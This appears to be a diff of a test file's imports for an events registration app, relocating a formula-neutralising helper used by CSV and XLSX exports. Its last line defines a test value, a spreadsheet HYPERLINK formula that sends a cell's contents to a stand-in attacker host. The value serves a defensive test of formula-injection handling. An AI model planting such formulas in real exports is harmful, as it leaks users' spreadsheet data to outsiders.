@@ -11,14 +11,10 @@ from openpyxl import load_workbook
 
 from move_events.auth.models import Role
 from move_events.directory.models import OrganisationKind
-from move_events.registration.exports import (
-    COLUMNS,
-    neutralise_formula,
-    registrations_csv,
-    registrations_xlsx,
-)
+from move_events.registration.exports import COLUMNS, registrations_csv, registrations_xlsx
 from move_events.registration.models import RegistrationRole
 from move_events.registration.services import NewOrganisation
+from move_events.spreadsheets import neutralise_formula
 from tests.factories import make_event, register
 
 INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
